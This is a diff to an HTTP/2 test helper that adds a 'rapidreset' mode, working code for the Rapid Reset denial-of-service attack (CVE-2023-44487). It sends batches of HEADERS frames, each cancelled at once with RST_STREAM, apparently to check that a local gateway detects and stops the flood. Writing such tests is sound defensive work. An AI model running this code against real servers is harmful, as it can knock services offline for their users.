@@ -11,6 +11,14 @@ flow-control window.
         "goaway": {"at", "last_stream", "error", "debug"} or null,
         "eof_at": seconds or null}.
 
+    h2_raw.py rapidreset PORT PATH PAIRS
+        Rapid reset (CVE-2023-44487): sends the preface, then up to PAIRS
+        HEADERS (GET PATH, END_STREAM) each followed at once by RST_STREAM
+        (CANCEL), 100 pairs per write, until the gateway stops it or all are
+        sent; then reads for up to 2 s. Prints JSON: {"pairs_sent": N,
+        "goaway": {"at", "last_stream", "error", "debug"} or null,
+        "eof": true|false}.
+
     h2_raw.py stall PORT PATH SECONDS
         Sends the preface, SETTINGS with INITIAL_WINDOW_SIZE 0 (no DATA may
         come), a GET for PATH, then for SECONDS acknowledges SETTINGS and
@@ -126,8 +134,42 @@ def stall(port, path, seconds):
     print(json.dumps(out))
 
 
+def rapid_reset(port, path, pairs):
+    c = Conn(port)
+    block = b"\x82\x86" + literal(":path", path) + literal(":authority", "127.0.0.1")
+    c.send(PREFACE + frame(SETTINGS, 0, 0))
+    sent, stream = 0, 1
+    try:
+        while sent < pairs:
+            batch = b""
+            for _ in range(min(100, pairs - sent)):
+                batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
+                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+                stream += 2
+            c.send(batch)
+            sent += min(100, pairs - sent)
+    except (BrokenPipeError, ConnectionResetError):
+        pass
+    out = {"pairs_sent": sent, "goaway": None, "eof": False}
+    try:
+        for f in c.frames(time.monotonic() + 2):
+            if f is None:
+                out["eof"] = True
+                break
+            ftype, flags, _, payload = f
+            if ftype == GOAWAY:
+                last, err = struct.unpack(">II", payload[:8])
+                out["goaway"] = {"at": c.now(), "last_stream": last, "error": err,
+                                 "debug": payload[8:].decode("latin-1")}
+    except OSError:
+        out["eof"] = True
+    print(json.dumps(out))
+
+
 def main(argv):
-    if argv[1] == "keepalive":
+    if argv[1] == "rapidreset":
+        rapid_reset(int(argv[2]), argv[3], int(argv[4]))
+    elif argv[1] == "keepalive":
         keepalive(int(argv[2]), float(argv[3]), argv[4] == "--ack")
     elif argv[1] == "stall":
         stall(int(argv[2]), argv[3], float(argv[4]))
